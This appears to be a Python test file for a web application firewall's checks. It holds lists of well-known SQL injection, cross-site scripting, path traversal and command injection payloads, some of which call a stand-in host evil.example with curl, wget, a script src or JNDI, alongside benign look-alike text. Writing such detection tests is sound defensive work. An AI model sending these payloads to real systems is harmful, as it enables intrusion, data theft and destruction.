"""Tests of the checks: attacks that everybody knows, and ordinary text that only looks like them."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import balancer_waf_basic
from twisted.trial.unittest import SynchronousTestCase

from balancer import testing

ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "1 OR 1=1", "' or 1=1--", "admin'--", "admin' #", "') or ('a'='a", '" or ""="', "1; DROP TABLE users",
        "1 UNION SELECT username, password FROM users", "1/**/UNION/**/ALL/**/SELECT/**/1,2,3", "-1' UNION SELECT null,version()--",
        "1' AND SLEEP(5)#", "1; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "x' AND email IS NULL; --",
        "1' ORDER BY 10--", "(select table_name from information_schema.tables)", "1 or pg_sleep(5)", "' OR 'x' LIKE 'x", "1' || '1'='1",
        "'; EXEC xp_cmdshell('dir')--", "1) or (1=1", "a' or true--", "1' and 1=(select count(*) from tabname); --",
    ],
    "xss": [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '" onmouseover="alert(1)',
        "javascript:alert(1)", "java\tscript:alert(1)", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href='data:text/html;base64,x'>",
        "'><details open ontoggle=alert(1)>", "<object data=x>", "<embed src=x>", "<base href=//evil.example/>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<input autofocus onfocus=alert(1)>", "<svg><animate onbegin=alert(1)>", "<iframe srcdoc='<p>'>", "</script><script>x",
    ],
    "path_traversal": [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "..%2f..%2fetc%2fpasswd",  "file:///etc/passwd", "php://filter/x",
        "/proc/self/environ", "x%00.png", "images/../../../secret", "..", "/.git/config", "c:\\boot.ini",
    ],
    "command_injection": [
        "127.0.0.1; cat /etc/passwd", "x | id", "x && whoami", "$(curl evil.example)", "`id`", "; ls -la", "() { :; }; echo x", "cat${IFS}/etc/passwd",
        "${jndi:ldap://evil.example/a}", "x || ping -c 10 127.0.0.1", "a;rm -rf /", "a\nwget http://evil.example/",
    ],
}  # fmt: skip
ORDINARY = [
    "O'Brien", "select a plan from our union", "Tom & Jerry", "rock 'n' roll", "it's 5 o'clock -- or later", "drop me a line; see you tomorrow", "1 or 2 apples",
    "black and white = grey", "x=1 and y=2?", "C++ and C#", "the union selected a new president", "script for the play", "javascript is a language",
    "on click of the button", "a < b and c > d", "price > 100 or < 50", "please order by Friday", "where there's a will", "cat pictures", "a; b; c", "me@example.org",
    "https://example.org/path?x=1&y=2", "10 | 20 | 30", "Fish && Chips", "version 1..2", "wait...what", "/images/logo.png", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko",
    "document your work", "I like 'quotes' and \"others\"", "50% off -- today", "update your profile; set your name", "He said 'yes' or 'no'", "{\"a\": [1, 2]}", "id=7", "echo chamber",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0", "type | size | colour", "the curl of a vector", "Q&A; FAQ", "$(price)", "`code`",
]  # fmt: skip


def score(check: Any, **request: Any) -> int:
    return testing.inspect(check, testing.subject(**request)).score


class CheckTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.checks = {name: testing.make(balancer_waf_basic, "checks", name) for name in ATTACKS}

    def test_attacks(self) -> None:
        """Each is worth the threshold, in a query, a form, JSON and a cookie, encoded once and twice."""
        for name, attacks in ATTACKS.items():
            for attack in attacks:
                once, twice = quote(attack, safe=""), quote(quote(attack, safe=""), safe="")
                form = {"Content-Type": "application/x-www-form-urlencoded"}
                for request in (
                    {"url": f"/?q={once}"},
                    {"url": f"/?q={twice}"},
                    {"url": "/", "method": "POST", "headers": form, "body": f"a=b&q={once}".encode()},
                    {
                        "url": "/",
                        "method": "POST",
                        "headers": {"Content-Type": "application/json"},
                        "body": json.dumps({"a": [{"q": attack}]}).encode(),
                    },
                    {"url": "/", "headers": {"Cookie": f"q={once}"}},
                ):
                    self.assertGreaterEqual(score(self.checks[name], **request), 5, (name, attack, request))

    def test_ordinary_text(self) -> None:
        """Is below the threshold for all checks together."""
        for text in ORDINARY:
            for request in ({"url": f"/search?q={quote(text, safe='')}"}, {"headers": {"User-Agent": text}}):
                total = sum(score(check, **request) for check in self.checks.values())
                self.assertLess(total, 5, text)

    def test_paths(self) -> None:
        """The path itself is looked at, as it was sent."""
        self.assertGreaterEqual(score(self.checks["path_traversal"], url="/static/..%2f..%2fetc/passwd"), 5)
        self.assertEqual(score(self.checks["path_traversal"], url="/a/b.c/d..e"), 0)

    def test_exclude(self) -> None:
        """An argument that is excluded is not looked at."""
        check = testing.make(balancer_waf_basic, "checks", "sqli", {"exclude": ["comment"]})
        self.assertEqual(score(check, url=f"/?comment={quote(ATTACKS['sqli'][0])}"), 0)
        self.assertGreaterEqual(score(check, url=f"/?other={quote(ATTACKS['sqli'][0])}"), 5)

    def test_finding(self) -> None:
        """A finding tells the rule, the place and what matched."""
        (finding,) = testing.inspect(self.checks["xss"], testing.subject("/?q=%3Cscript%3E")).findings
        self.assertEqual((finding.rule, finding.target, finding.snippet), ("xss/script", "query:q", "<script"))

    def test_odd_bodies(self) -> None:
        """What is no JSON, deep JSON and endless arguments do no harm."""
        for kind, body in (
            ("application/json", b"{"), ("application/json", b"[" * 100_000), ("application/x-www-form-urlencoded", b"&=" * 50_000),
            ("multipart/form-data; boundary=x", bytes(range(256)) * 100), ("", b"\xff" * 1000),
        ):  # fmt: skip
            for check in self.checks.values():
                testing.inspect(check, testing.subject("/", "POST", {"Content-Type": kind}, body=body))
                self.assertEqual(testing.account_of(check).errors, 0, testing.account_of(check).last_error)
